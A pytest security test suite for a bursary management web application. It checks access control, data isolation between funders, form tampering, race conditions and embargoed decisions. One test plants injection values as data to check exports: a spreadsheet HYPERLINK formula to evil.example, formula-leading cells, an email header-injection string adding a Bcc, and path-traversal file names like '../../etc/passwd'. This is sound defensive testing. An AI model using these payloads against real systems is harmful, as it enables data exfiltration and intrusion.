"""Bursaries as an attacker sees them: addresses, amounts and forms of somebody else, and files that run."""

import csv
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import timedelta
from email import message_from_bytes
from io import BytesIO, StringIO
from typing import Any

import pypdfium2
import pytest
from flask import Flask
from openpyxl import load_workbook
from sqlalchemy import select
from werkzeug.test import TestResponse

from network.bursaries.applications.models import Application, Document
from network.bursaries.applications.rules import Status
from network.bursaries.claims.models import Claim, Payment, Receipt
from network.bursaries.claims.rules import Status as Claimed
from network.bursaries.deciding import operations as deciding
from network.bursaries.deciding import queries as decided
from network.bursaries.deciding.models import Decision, Offer
from network.bursaries.funds.models import Fund
from network.bursaries.ledger import queries as ledger
from network.bursaries.ledger.models import BudgetLine, LedgerEntry
from network.bursaries.ledger.rules import Move, balance
from network.bursaries.scheme.rules import CostSort
from network.core import clock, mail_delivery
from network.core.database import db
from network.core.letters import previews
from network.core.mail import Message
from network.core.permission import Role
from network.members.people.models import Member
from tests import factories
from tests.security.client import IN, NO, Page, Quick, outcome
from tests.security.conftest import Browse
from tests.security.declaring import ESI
from tests.security.features import (
    assessing,
    bursaries,
    bursary_reports,
    checked,
    claims,
    conditions,
    funds,
    outcomes,
    scheme,
)
from tests.security.features import deciding as deciding_rows
from tests.security.hostile import crawl
from tests.security.test_access import address_of, what_it_gives_away
from tests.security.together import all_in_words, at_once, count, posting
from tests.security.world import World

pytestmark = pytest.mark.usefixtures("unlimited", "no_tokens")
ABOUT_AWARDS = (bursaries, assessing, deciding_rows, outcomes, conditions, claims, bursary_reports)
FEATURES = (*ABOUT_AWARDS, funds, scheme, checked)
# Whatever is read by those who decide or coordinate.
LISTS = (
    "/", "/bursaries/", "/bursaries/queue", "/bursaries/batch", "/bursaries/claims", "/bursaries/conditions",
    "/bursaries/report", "/bursaries/funds", "/account/record", "/bursaries/claims/payments.csv",
    "/bursaries/report.csv", "/bursaries/report.xlsx", "/bursaries/report.pdf",
    "/bursaries/report-for-committee.pdf",
)  # fmt: skip
NOT_MONEY = ("-1", "−1", "1e9", "1.250,50", "12.345", "１２", "12\x0050", "9" * 400, "twelve", "1,25", "£ £5")
FORMULA = '=HYPERLINK("http://evil.example";"xq7")'
BREAKING = "Course\r\nBcc: xq7@evil.example\r\n\r\nxq7\u2028X-Xq7: 1"


def little_world(owner: str, applicant: Member, funder: Member) -> World:
    """Make one of everything about bursaries, for one applicant and one funder."""
    world = World(people={owner: applicant, "ben": funder})
    world.things[owner] = {}
    for feature in FEATURES:
        world.things[owner] |= feature.things(world, owner, world.things[owner])
    return world


def funder_of(name: str, *roles: Role, organisation: str = "") -> Member:
    made = factories.member(name, *(roles or (Role.FUNDER,)), email=f"{name[:3].lower()}@network.example")
    factories.account(made)
    return factories.funds_for(made, factories.organisation(organisation)) if organisation else made


@pytest.fixture
def here(app: Flask, amina: Member, ben: Member) -> World:
    """Amina applies and Ben decides."""
    return little_world("amina", amina, ben)


@pytest.fixture
def zoe(app: Flask) -> Member:
    """Zoe decides for somebody else."""
    return funder_of("Zoe Finch", organisation="Lottery")


def pages_about(world: World) -> Iterator[tuple[Any, str, str, Any]]:
    """Give every address that names a thing, with each of its methods and its row."""
    things = next(iter(world.things.values()))
    for feature in FEATURES:
        for name, row in feature.ROWS.items():
            if row.thing in things:
                for method in row.methods.split():
                    yield feature, name.partition(" ")[0], method, (row, things[row.thing])


def conflict_everywhere(member: Member) -> None:
    for one in db.session.scalars(select(Application).where(Application.submitted_at.is_not(None))):
        factories.declaration(member, one, conflict=True)


def words_in(answer: TestResponse) -> str:
    """Return all that an answer says: a workbook, an archive and a paper are opened."""
    if answer.data.startswith(b"PK"):
        with zipfile.ZipFile(BytesIO(answer.data)) as archive:
            parts = [archive.read(one).decode(errors="replace") for one in archive.namelist()]
            return "\n".join([*archive.namelist(), *parts])
    if answer.data.startswith(b"%PDF"):
        document = pypdfium2.PdfDocument(answer.data)
        text = "\n".join(page.get_textpage().get_text_bounded() for page in document)
        document.close()
        return text
    return answer.data.decode(errors="replace")


def given_away(answer: TestResponse, hidden: list[str]) -> list[str]:
    said = words_in(answer)
    return [*what_it_gives_away(answer, hidden), *(one for one in hidden if one in said)]


@pytest.mark.one_database("sqlite")
@pytest.mark.parametrize("who", ["of another funder", "of nobody", "deputy of yesterday", "with a conflict"])
def test_whoever_has_no_say_is_refused_on_every_page_and_by_every_action(
    app: Flask, browse: Browse, here: World, zoe: Member, ben: Member, ada: Member, carol: Member, who: str
) -> None:
    """Also a funder of another organisation, whom the matrix of the site does not know."""
    member = {
        "of another funder": zoe,
        "deputy of yesterday": ada,
        "with a conflict": carol,
    }.get(who) or funder_of("Ned Lone")
    if who == "with a conflict":
        shown = browse(carol).get("/administration/letters/templates/bursaries/deciding/email/amended.txt")
        assert "canary" in shown.text
        conflict_everywhere(carol)
    client, hidden, wrong, tried = browse(member), list(here.canaries), [], 0
    open_to_keepers = {"fund-money", "fund-draft", "checked-number"} if member is carol else set()
    hidden = [one for one in hidden if not any(word in one for word in open_to_keepers)]

    for feature, endpoint, method, (row, number) in pages_about(here):
        if member is carol and (feature not in ABOUT_AWARDS or row.thing == "release that was replaced"):
            continue
        if ESI in row.who or row.thing in {"organisation", "release"}:
            continue
        address = address_of(app, endpoint, {"id": number, **row.places})
        answer = client.open(address, method=method)
        tried += 1
        if outcome(answer) != NO or given_away(answer, hidden):
            wrong.append(f"{method} {address}: {answer.status} {given_away(answer, hidden)}")
    letters = [f"/administration/letters/templates/{one}" for one in previews if "bursaries/" in one]
    for address in (*LISTS, "/administration/letters", *letters):
        answer = client.get(address)
        if outcome(answer) not in {IN, NO} or given_away(answer, hidden):
            wrong.append(f"{address}: {answer.status} {given_away(answer, hidden)}")

    assert tried > 90
    assert wrong == [], "\n".join(wrong)
    assert "Your bursary is" not in client.get("/administration/letters").text


@pytest.mark.one_database("sqlite")
def test_nothing_of_another_funder_comes_into_a_list_a_sum_a_file_or_a_letter(
    app: Flask, browse: Browse, here: World, ben: Member, zoe: Member
) -> None:
    """What Ben reads is the same to the letter whether the other funder is there or not."""
    browser = browse(ben)
    before = {address: _text(browser.get(address)) for address in LISTS}
    omar = factories.member("Omar Canary-Name", Role.INSTRUCTOR, email="omar@network.example")
    there = little_world("omar", omar, zoe)
    hidden = [*there.canaries, "Omar Canary-Name", "omar@network.example"]
    db.session.commit()

    different = [
        address
        for address in LISTS
        if _text(browser.get(address)) != before[address] and address not in OFFERS_TO_ALL
    ]
    wrong = []

    def look(answer: TestResponse, what: str) -> None:
        if found := given_away(answer, hidden):
            wrong.append(f"{what}: {found}")
        if "/bursaries" in what and "no-store" not in answer.headers["Cache-Control"]:
            wrong.append(f"{what}: may be kept")

    crawl(browser, look, most=90)
    theirs = there.things["omar"]
    for address in (
        f"/bursaries/queue?fund={theirs['fund']}",
        f"/bursaries/batch?fund={theirs['fund']}",
        f"/bursaries/conditions?fund={theirs['fund']}",
        f"/bursaries/report.csv?fund={theirs['fund']}",
        f"/bursaries/claims?checked={theirs['claim to pay']}&paid={theirs['claim to pay']}",
        f"/bursaries/conditions?after={theirs[conditions.AWARD]}",
    ):
        look(browser.get(address), address)

    assert different == []
    assert wrong == [], "\n".join(wrong)
    letters = db.session.scalars(select(Message).where(Message.member_id == ben.id))
    assert [one.subject for one in letters if any(word in one.subject + one.body for word in hidden)] == []


# What anybody can apply for is told to all, and one's own record says that one took a report.
OFFERS_TO_ALL = {"/bursaries/", "/bursaries/funds", "/", "/account/record"}


def _text(answer: TestResponse) -> str:
    """Return what is read of an answer, without the words that are other on each look."""
    said = re.sub(r"<(script|style).*?</\1>", "", words_in(answer), flags=re.S)
    said = re.sub(r"<[^>]*>", " ", said)
    return re.sub(r"\d{4}-\d\d-\d\dT[\d:.]+Z?|\d\d:\d\d(:\d\d)?", "", said)


@pytest.mark.one_database("sqlite")
def test_an_administrator_who_looks_as_an_applicant_opens_nothing_of_it(
    app: Flask, here: World, amina: Member, ada: Member, browse: Browse
) -> None:
    looking = browse(ada)
    looking.post(f"/members/{amina.id}/look-as", data={"why": "they asked for help"})
    assert "You see this as" in looking.get("/").text
    private = {name for name, view in app.view_functions.items() if getattr(view, "private", False)}
    wrong, tried = [], 0

    for _feature, endpoint, method, (row, number) in pages_about(here):
        if endpoint in private and method == "GET":
            answer = looking.get(address_of(app, endpoint, {"id": number, **row.places}))
            tried += 1
            if outcome(answer) != NO or given_away(answer, list(here.canaries)):
                wrong.append(f"{endpoint}: {answer.status} {given_away(answer, list(here.canaries))}")

    assert tried > 30
    assert wrong == [], "\n".join(wrong)


@dataclass
class Award:
    """A fund of two lines, one award of it with a claim, and one application to decide on."""

    fund: Fund
    application: Application
    sent: Application
    claim: Claim
    line: BudgetLine
    money: int  # what is left in its fund


@pytest.fixture
def make(app: Flask, ben: Member) -> Callable[..., Award]:
    """Make an award to somebody, of a fund that Ben decides for unless it is another's."""

    def made(applicant: Member, funder: Member = ben, name: str = "Here") -> Award:
        fund = factories.fund(f"Fund {name}")
        factories.funds_for(funder, fund.organisation)
        line = factories.kept(BudgetLine(fund_id=fund.id, name="Travel"))
        award = factories.application(
            applicant, fund, Status.CLAIMED, completed_on=clock.today(), provider=f"{name} Academy"
        )
        sent = factories.application(applicant, fund)
        for one in (award, sent):
            factories.declaration(funder, one)
            factories.kept(Document(application=one, key="other", file=factories.stored_file()))
        claim = Claim(
            application=award, number=1, status=Claimed.CHECKED, pence=300_00, approved_pence=200_00
        )
        claim.sent_at = clock.now() - timedelta(days=1)
        claim.receipts.append(Receipt(sort=CostSort.FEE, pence=300_00, file=factories.stored_file()))
        factories.kept(claim)
        db.session.refresh(fund)
        return Award(fund, award, sent, claim, line, ledger.of_fund(fund.id).available)

    return made


def state() -> list[Any]:
    """Return what no refused press may change: entries, statuses, decisions, payments."""
    db.session.expire_all()
    return [
        db.session.execute(select(LedgerEntry.id, LedgerEntry.line_id, LedgerEntry.pence)).all(),
        db.session.execute(
            select(
                Application.id,
                Application.status,
                Application.fund_id,
                Application.applicant_id,
                Application.line_id,
                Application.asked_pence,
                Application.awarded_pence,
            )
        ).all(),
        db.session.execute(select(Claim.id, Claim.status, Claim.approved_pence, Claim.paid_pence)).all(),
        *(count(one) for one in (Decision, Offer, Payment, Receipt, Document)),
    ]


@pytest.mark.one_database("sqlite")
def test_no_number_of_somebody_else_opens_a_door_in_an_address_or_a_form(
    app: Flask,
    browse: Browse,
    make: Callable[..., Award],
    amina: Member,
    ben: Member,
    carol: Member,
    zoe: Member,
) -> None:
    mine, other = make(amina), make(factories.member("Omar Hall", Role.INSTRUCTOR), zoe, "There")
    factories.kept(Document(application=other.sent, key="more", number=2, file=factories.stored_file()))
    offered = deciding.approve(other.sent, 300_00, by=zoe, line=other.fund.lines[0])
    there = decided.offer_of(other.sent)
    assert there is not None
    db.session.commit()
    before = state()
    applicant, funder, keeper = browse(amina), browse(ben), browse(carol)
    yes = {"outcome": "approve", "pence": "300", "version": mine.sent.version}
    put = {"pence": "5", "reason": "Grant letter"}
    wanted = (  # who, address, what is sent, and the answer
        (applicant, f"/bursaries/{mine.sent.id}/documents/2", None, 404),
        (funder, f"/bursaries/{mine.sent.id}/documents/2", None, 404),
        (funder, f"/bursaries/{other.sent.id}/documents/1", None, 403),
        (applicant, f"/bursaries/{mine.application.id}/conditions/1/evidence", {"words": "x"}, 404),
        (applicant, f"/bursaries/{mine.application.id}/conditions/files/0", None, 404),
        (funder, f"/bursaries/{mine.application.id}/conditions/claw-backs/1/received", put, 404),
        (applicant, f"/bursaries/claims/{other.claim.id}", None, 403),
        (applicant, f"/bursaries/receipts/{other.claim.receipts[0].id}", None, 403),
        (applicant, f"/bursaries/receipts/{other.claim.receipts[0].id}?size=small", None, 403),
        (funder, f"/bursaries/claims/{other.claim.id}/pay", put, 403),
        (applicant, f"/bursaries/{mine.sent.id}/edit/money", None, 404),
        (applicant, f"/bursaries/{mine.sent.id}/edit/statement", {"statement": "x"}, 302),
        (funder, f"/bursaries/{mine.sent.id}/decide", yes | {"line": other.line.id}, 200),
        (funder, f"/bursaries/{mine.sent.id}/decide", yes | {"line": "0"}, 200),
        (funder, "/bursaries/batch", {"applications": other.sent.id, "outcome": "approve"}, 200),
        (
            funder,
            "/bursaries/batch",
            {"applications": mine.sent.id, "outcome": "approve", "line": other.line.id},
            200,
        ),
        (funder, f"/bursaries/rounds/{other.fund.rounds[0].id}/release", {"seen": offered.id}, 403),
        (funder, f"/bursaries/rounds/{mine.fund.rounds[0].id}/release", {"seen": offered.id}, 200),
        (applicant, f"/bursaries/{other.sent.id}/offer", {"offer": there.id, "agreed": "y"}, 403),
        (applicant, f"/bursaries/{mine.sent.id}/offer", {"offer": there.id, "agreed": "y"}, 404),
        (keeper, f"/bursaries/funds/{mine.fund.id}/lines/{other.line.id}", {"name": "x"}, 404),
        (keeper, f"/bursaries/funds/{mine.fund.id}/money/in", put | {"line": other.line.id}, 200),
        (keeper, f"/bursaries/funds/{mine.fund.id}/money/out", put | {"line": other.line.id}, 200),
        (
            keeper,
            f"/bursaries/funds/{mine.fund.id}/money/move",
            put | {"line": mine.fund.lines[0].id, "target": other.line.id},
            200,
        ),
        (keeper, "/bursaries/open-data/prepare", {"awards": mine.sent.id}, 200),
        (keeper, "/bursaries/open-data/prepare", {"awards": 2**40}, 200),
    )

    found = [
        (address, sent, answer.status_code)
        for client, address, sent, status in wanted
        if (answer := client.get(address) if sent is None else client.post(address, data=sent)).status_code
        != status
    ]

    assert found == []
    assert state() == before


def money_forms(
    one: Award, here: World, people: dict[str, Member]
) -> Iterator[tuple[Member, str, str, dict[str, Any]]]:
    """Give every form that takes an amount: who fills it in, its address, its field, and all the rest."""
    amina, ben, carol = people["amina"], people["ben"], people["carol"]
    day = {"day": "1", "month": "2", "year": "2027"}
    things = here.things["amina"]
    award = things[conditions.AWARD]

    def on(name: str) -> dict[str, str]:
        return {f"{name}-{part}": value for part, value in day.items()}

    yield ben, f"/bursaries/{one.sent.id}/decide", "pence", {"outcome": "approve", "reason": "kept words"}
    for way in ("in", "out", "move"):
        yield carol, f"/bursaries/funds/{one.fund.id}/money/{way}", "pence", {"reason": "kept words"}
    for name in ("pounds", "cap"):
        yield carol, "/bursaries/funds/new", name, {"purpose": "kept words"}
    yield amina, f"/bursaries/{things['bursary draft']}/edit/costs", "fee", {"other_pence": "77.07"}
    yield amina, f"/bursaries/{things['bursary draft']}/edit/costs", "other_pence", {"fee": "77.07"}
    yield (
        amina,
        f"/bursaries/{things['award to claim']}/claim",
        "pence",
        {"what": "sort:fee"} | on("dated_on"),
    )
    yield amina, f"/bursaries/claims/{things['claim draft']}/send", "pence", {"words": "kept words"}
    yield (
        carol,
        f"/bursaries/claims/{things['claim to check']}/check",
        "pence",
        {"decision": "approve", "reason": "kept words"},
    )
    yield ben, f"/bursaries/claims/{one.claim.id}/pay", "pence", {"reference": "kept words"} | on("paid_on")
    yield ben, f"/bursaries/{award}/conditions/claw-back", "pence", {"reason": "kept words"} | on("due_on")
    yield (
        ben,
        f"/bursaries/{award}/conditions/claw-backs/1/received",
        "pence",
        {"reference": "kept words"} | on("received_on"),
    )


@pytest.mark.one_database("sqlite")
def test_what_is_no_amount_is_refused_in_words_beside_the_field_and_nothing_typed_is_lost(
    app: Flask,
    browse: Browse,
    here: World,
    make: Callable[..., Award],
    amina: Member,
    ben: Member,
    carol: Member,
) -> None:
    one = make(amina)
    before, wrong, seen = state(), [], 0
    for member, address, name, rest in money_forms(one, here, {"amina": amina, "ben": ben, "carol": carol}):
        client = browse(member)
        assert client.get(address).status_code == 200, address
        for typed in (*NOT_MONEY, "0"):
            answer = client.post(address, data={**rest, name: typed})
            seen += 1
            fields = {
                facts["name"]: facts
                for tag, facts in Page(answer.text).elements
                if tag in {"input", "textarea"}
                and facts.get("type") not in {"radio", "checkbox"}
                and "name" in facts
            }
            shown = fields.get(name, {}).get("value", "")
            if answer.status_code != 200 or f"{name}-error" not in answer.text:
                wrong.append(f"{address} {typed!r:.20}: {answer.status}, no word beside it")
            elif shown != typed.replace("\x00", "")[:40]:
                wrong.append(f"{address} {typed!r:.20}: shows {shown!r:.30}")
            wrong += [
                f"{address} {typed!r:.20}: lost {value}"
                for key, value in rest.items()
                if value not in answer.text and key not in {"outcome", "what"}
            ]

    assert seen > 120
    assert wrong == [], "\n".join(wrong)
    assert state() == before


@pytest.mark.one_database("sqlite")
def test_what_nobody_asked_for_is_not_taken(
    app: Flask, browse: Browse, make: Callable[..., Award], amina: Member, ben: Member, carol: Member
) -> None:
    """Neither a status, nor another's money, nor another's name, from any form that somebody may send."""
    mine, other = make(amina), make(factories.member("Omar Hall", Role.INSTRUCTOR), name="There")
    more = {
        "status": "paid", "awarded_pence": "999", "asked_pence": "999",
        "applicant_id": other.sent.applicant_id, "applicant": other.sent.applicant_id,
        "fund_id": other.fund.id, "fund": other.fund.id,
        "line_id": other.line.id, "approved_pence": "999", "paid_pence": "999", "reference_number": "B-1",
        "by_id": carol.id, "for_id": carol.id, "id": other.sent.id, "application_id": other.sent.id,
        "released_at": "2020-01-01", "scheme_id": "1", "number": "9", "claim_id": other.claim.id,
        "accepted_at": "2020-01-01", "completed_on": "2020-01-01", "checked_by_id": ben.id,
    }  # fmt: skip
    day = {"day": clock.today().day, "month": clock.today().month, "year": clock.today().year}
    first = mine.fund.lines[0]
    presses = (
        (ben, f"/bursaries/{mine.sent.id}/decide", {"outcome": "approve", "pence": "300", "line": first.id}),
        (amina, f"/bursaries/{mine.sent.id}/offer", {"agreed": "y"}),
        (ben, f"/bursaries/claims/{mine.claim.id}/pay",
         {"pence": "50", "reference": "PAY-1", **{f"paid_on-{part}": value for part, value in day.items()}}),
        (amina, f"/bursaries/funds/{mine.fund.id}/apply", {}),
        (carol, f"/bursaries/funds/{mine.fund.id}/money/in",
         {"pence": "£1,250.50", "reason": "More", "line": first.id}),
    )  # fmt: skip
    theirs = [vars_of(one) for one in (other.sent, other.application, other.claim)]

    for member, address, sent in presses:
        offer = decided.offer_of(mine.sent)
        answer = browse(member).post(address, data=more | sent | ({"offer": offer.id} if offer else {}))
        assert answer.status_code == 302, (address, answer.text)

    db.session.expire_all()
    assert (mine.sent.status, mine.sent.awarded_pence, mine.sent.asked_pence) == (
        Status.ACCEPTED,
        300_00,
        300_00,
    )
    assert (mine.sent.line_id, mine.sent.fund_id, mine.sent.applicant_id) == (
        first.id,
        mine.fund.id,
        amina.id,
    )
    assert (mine.claim.status, mine.claim.approved_pence, mine.claim.paid_pence) == (
        Claimed.PART_PAID,
        200_00,
        50_00,
    )
    decision = decided.decisions_of(mine.sent)[0]
    assert (decision.by_id, decision.for_id, mine.claim.payments[0].by_id) == (ben.id, ben.id, ben.id)
    begun = db.session.scalars(select(Application).where(Application.status == Status.DRAFT)).one()
    assert (begun.applicant_id, begun.fund_id) == (amina.id, mine.fund.id)
    assert ledger.of_fund(mine.fund.id).available == mine.money + 1_250_50 - 300_00
    assert [vars_of(one) for one in (other.sent, other.application, other.claim)] == theirs
    assert ledger.of_fund(other.fund.id).available == other.money


def vars_of(thing: Any) -> dict[str, Any]:
    return {column.key: getattr(thing, column.key) for column in thing.__mapper__.column_attrs}


@pytest.mark.one_database("sqlite")
def test_an_old_press_does_nothing_once_it_has_moved_on(
    app: Flask, browse: Browse, make: Callable[..., Award], amina: Member, ben: Member, carol: Member
) -> None:
    """Each is sent again as it was, and once more without saying which version its sender has read."""
    one = make(amina)
    sent, claim = one.sent, one.claim
    by_amina, by_ben, by_carol = browse(amina), browse(ben), browse(carol)
    today = clock.today()
    day = {"paid_on-day": today.day, "paid_on-month": today.month, "paid_on-year": today.year}
    presses: list[tuple[Quick, str, dict[str, Any]]] = []

    def press(client: Quick, address: str, **data: Any) -> None:
        answer = client.post(address, data=data)
        assert answer.status_code == 302, (address, answer.text)
        presses.append((client, address, data))
        db.session.expire_all()

    line = one.fund.lines[0].id
    page = f"/bursaries/{sent.id}"
    press(by_ben, f"{page}/decide", outcome="decline", reason="Not now", version=sent.version)
    press(by_ben, f"{page}/reopen", reason="A mistake")
    press(by_ben, f"{page}/decide", outcome="approve", pence="300", line=line, version=sent.version)
    offer = decided.offer_of(sent)
    assert offer is not None
    press(by_amina, f"{page}/offer", agreed="y", offer=offer.id)
    pay = f"/bursaries/claims/{claim.id}/pay"
    press(by_ben, pay, pence="150", reference="PAY-1", version=claim.version, **day)
    press(by_ben, pay, pence="50", reference="PAY-2", version=claim.version, **day)
    payment = db.session.scalars(select(Payment).order_by(Payment.id)).first()
    assert payment is not None
    press(by_ben, f"/bursaries/payments/{payment.id}/take-back", reason="It was another")
    before = state()

    answers = [
        client.post(address, data=again)
        for client, address, data in presses
        if address != pay
        for again in (data, {name: value for name, value in data.items() if name != "version"})
    ]
    answers += [client.post(address, data=data) for client, address, data in presses if address == pay]
    late = (
        (by_amina, f"{page}/offer/turn-down", {"reason": "No"}),
        (by_ben, f"{page}/release", {}), (by_ben, f"{page}/ask", {"section": "costs", "words": "Why?"}),
        (by_amina, f"/bursaries/claims/{claim.id}/send", {"pence": "1", "payee": "applicant"}),
        (by_amina, f"/bursaries/receipts/{claim.receipts[0].id}/remove", {}),
        (by_amina, f"/bursaries/claims/{claim.id}/withdraw", {}),
        (by_carol, f"/bursaries/claims/{claim.id}/check", {"decision": "approve", "pence": "300"}),
        (by_carol, f"/bursaries/claims/{claim.id}/check-again", {"reason": "No"}),
        (by_carol, f"/bursaries/{one.application.id}/open-again", {"pence": "5", "reason": "More"}),
        (by_amina, f"{page}/edit/costs", {"fee": "1"}), (by_amina, f"{page}/check", {}),
    )  # fmt: skip
    answers += [client.post(address, data=data) for client, address, data in late]

    assert {answer.status_code for answer in answers} <= {200, 302, 403, 409}, [one.status for one in answers]
    assert state() == before


def test_ten_presses_at_once_have_one_effect_and_ten_friendly_answers(
    app: Flask, browse: Browse, make: Callable[..., Award], amina: Member, ben: Member, carol: Member
) -> None:
    one, two = make(amina), make(amina, name="Two")
    by_amina, by_ben = browse(amina), browse(ben)
    deciding.approve(two.sent, 300_00, by=ben, line=two.fund.lines[0])
    offer = decided.offer_of(two.sent)
    assert offer is not None
    begun = Claim(application=two.application, number=2, status=Claimed.DRAFT)
    begun.receipts.append(Receipt(sort=CostSort.FEE, pence=300_00, file=factories.stored_file()))
    two.claim.pence = two.claim.approved_pence = 100_00
    checked_later = Claim(application=one.application, number=2, status=Claimed.SENT, pence=100_00)
    checked_later.sent_at = clock.now()
    factories.kept(begun)
    factories.kept(checked_later)
    db.session.commit()
    today = clock.today()
    day = {"paid_on-day": today.day, "paid_on-month": today.month, "paid_on-year": today.year}
    first = one.fund.lines[0].id
    presses = {
        "approve": (
            posting(by_ben, f"/bursaries/{one.sent.id}/decide", outcome="approve", pence="300", line=first,
                    version=one.sent.version),
            lambda: count(Decision, Decision.application_id == one.sent.id),
        ),
        "accept": (
            posting(by_amina, f"/bursaries/{two.sent.id}/offer", agreed="y", offer=offer.id),
            lambda: count(
                LedgerEntry, LedgerEntry.application_id == two.sent.id, LedgerEntry.move == Move.COMMIT
            ),
        ),
        "claim": (
            posting(by_amina, f"/bursaries/claims/{begun.id}/send", pence="200", payee="applicant"),
            lambda: count(Message, Message.template.contains("received"), Message.thing_id == begun.id),
        ),
        "check": (
            posting(browse(carol), f"/bursaries/claims/{checked_later.id}/check", decision="approve",
                    pence="100", version=checked_later.version),
            lambda: len(checked_later.checks),
        ),
        "pay": (
            posting(by_ben, f"/bursaries/claims/{one.claim.id}/pay", pence="200", reference="PAY-1",
                    version=one.claim.version, **day),
            lambda: count(Payment, Payment.claim_id == one.claim.id),
        ),
        "begin": (
            posting(by_amina, f"/bursaries/funds/{two.fund.id}/apply"),
            lambda: count(Application, Application.status == Status.DRAFT),
        ),
    }  # fmt: skip
    effects = {}
    for what, (press, effect) in presses.items():
        answers = at_once(app, [press] * 10)
        all_in_words(answers)
        effects[what] = effect()

    assert effects == dict.fromkeys(presses, 1)
    for line in (*one.fund.lines, *two.fund.lines):
        assert line.balance == balance((entry.move, entry.pence) for entry in ledger.entries_of_line(line.id))


@pytest.mark.one_database("sqlite")
def test_what_leaves_as_a_file_runs_nothing_breaks_no_header_and_stays_in_its_folder(
    app: Flask,
    browse: Browse,
    here: World,
    make: Callable[..., Award],
    amina: Member,
    ben: Member,
    carol: Member,
) -> None:
    one = make(amina, name=FORMULA)
    amina.name = "@SUM(A1)"
    one.application.course_title = one.sent.course_title = BREAKING
    one.fund.name = FORMULA
    one.line.name = "-1+1"
    draft = Claim(application=one.application, number=2, status=Claimed.DRAFT, words="canary-unsent")
    draft.receipts.append(
        Receipt(sort=CostSort.FEE, pence=1, file=factories.stored_file(name="canary-unsent.jpg"))
    )
    factories.kept(draft)
    for number, name in enumerate(("../../etc/passwd", "/srv/xq7", "C:\\xq7\\con"), start=2):
        kept = factories.stored_file(name=name)
        factories.kept(Document(application=one.application, key=f"k{number}", number=number, file=kept))
    deciding.approve(one.sent, 250_00, FORMULA, by=ben, line=one.fund.lines[0])
    db.session.commit()
    by_ben, page = browse(ben), f"/bursaries/{one.application.id}"
    things = here.things["amina"]
    saved = [
        by_ben.get(address)
        for address in (
            *(f"{page}/documents/{number}" for number in range(1, 5)),
            f"/bursaries/receipts/{one.claim.receipts[0].id}",
            f"/bursaries/{things[conditions.AWARD]}/conditions/files/1",
            f"/bursaries/{one.sent.id}/letter.pdf",
            f"{page}/bundle.zip",
            *(address for address in LISTS if "." in address),
        )
    ]

    for answer in saved:
        said = str(answer.headers)
        assert answer.status_code == 200, (answer.request.path, answer.text)
        assert answer.headers["X-Content-Type-Options"] == "nosniff", answer.request.path
        assert "no-store" in answer.headers["Cache-Control"], answer.request.path
        assert "X-Xq7" not in answer.headers
        picture = "inline" in said and answer.mimetype == "image/jpeg"
        assert picture or answer.headers["Content-Disposition"].startswith("attachment"), said
        assert "canary-unsent" not in words_in(answer), answer.request.path
    for name, table in tables_in(saved):
        running = [cell for row in table for cell in row if cell[:1] in {"=", "+", "@", "\t", "\r"}]
        running += [cell for row in table for cell in row if re.match(r"-\D|-\d+\D", cell)]
        assert running == [], name
    with zipfile.ZipFile(BytesIO(by_ben.get(f"{page}/bundle.zip").data)) as archive:
        names = archive.namelist()
    assert [one for one in names if one.startswith("/") or re.search(r"\.\.|[\x00-\x1f\\\\]", one)] == []
    assert len(names) == len(set(names))
    letters = db.session.scalars(select(Message).where(Message.member_id == amina.id)).all()
    assert letters
    for letter in letters:
        written = message_from_bytes(mail_delivery._as_mail(letter).as_bytes())
        assert {"X-Xq7", "Bcc"} & set(written) == set(), letter.subject


def tables_in(answers: list[TestResponse]) -> Iterator[tuple[str, list[list[str]]]]:
    """Give every table of some files: those of an archive, and the cells of a workbook, too."""
    for answer in answers:
        path = answer.request.path
        if answer.mimetype == "text/csv":
            yield path, list(csv.reader(StringIO(answer.text)))
        elif path.endswith(".xlsx"):
            sheet = load_workbook(BytesIO(answer.data)).active
            assert sheet is not None
            assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n"}
        elif path.endswith(".zip"):
            with zipfile.ZipFile(BytesIO(answer.data)) as archive:
                for name in archive.namelist():
                    if name.endswith(".csv"):
                        yield name, list(csv.reader(StringIO(archive.read(name).decode("utf-8-sig"))))


@pytest.mark.one_database("sqlite")
def test_no_page_or_file_ties_an_application_to_a_blind_fund_to_a_name(
    app: Flask, ben: Member, browse: Browse
) -> None:
    fund = factories.fund(rules={"blind": True, "criteria": [{"key": "need", "title": "Need"}]})
    factories.funds_for(ben, fund.organisation)
    quill = factories.member("Quill Underwood", Role.INSTRUCTOR, email="quill@network.example")
    application = factories.application(quill, fund, course_title="Course of the canary")
    factories.declaration(ben, application)
    db.session.commit()
    tied, about = [], []

    def look(answer: TestResponse, what: str) -> None:
        text = words_in(answer)
        if "Course of the canary" in text or str(application.reference) in text:
            about.append(what)
            tied.extend(f"{what}: {word}" for word in ("Quill", "Underwood", "quill@") if word in text)

    crawl(browse(ben), look, most=300)
    for address in (*LISTS, f"/bursaries/{application.id}", f"/bursaries/{application.id}/score"):
        look(browse(ben).get(address), address)

    assert len(about) >= 5
    assert tied == []


@pytest.mark.one_database("sqlite")
def test_nothing_that_is_decided_under_an_embargo_comes_out_before_its_release(
    app: Flask, ben: Member, browse: Browse
) -> None:
    fund = factories.fund(rules={"embargo": True})
    factories.funds_for(ben, fund.organisation)
    asking = [
        factories.member(f"{name} Under", Role.INSTRUCTOR, email=f"{name.lower()}@network.example")
        for name in ("Ann", "Bob", "Cat")
    ]
    approved, declined, deferred = [factories.application(one, fund) for one in asking]
    for one in (approved, declined, deferred):
        factories.account(one.applicant)
        factories.declaration(ben, one)
    deciding.approve(approved, 123_00, "canary-approved", by=ben)
    deciding.decline(declined, "canary-declined", by=ben)
    deciding.defer(deferred, "canary-deferred", by=ben)
    db.session.commit()
    words = ("canary-", "£123", "Approved", "Declined", "Deferred", "Not awarded")

    def told() -> dict[str, set[str]]:
        found: dict[str, set[str]] = {}
        for one in (approved, declined, deferred):
            said = found.setdefault(one.applicant.name, set())

            def look(answer: TestResponse, _what: str, said: set[str] = said) -> None:
                said.update(word for word in words if word in words_in(answer))

            crawl(browse(one.applicant), look, most=300)
            look(browse(one.applicant).get(f"/bursaries/{one.id}"), "")
        return found

    before = told()
    assert before == {"Ann Under": set(), "Bob Under": set(), "Cat Under": set()}
    assert db.session.scalars(select(Message)).all() == []

    for one in (approved, declined, deferred):
        deciding.release(one, by=ben)
    db.session.commit()

    assert all("canary-" in said for name, said in told().items() if name != "Ann Under")
    assert "£123" in told()["Ann Under"]
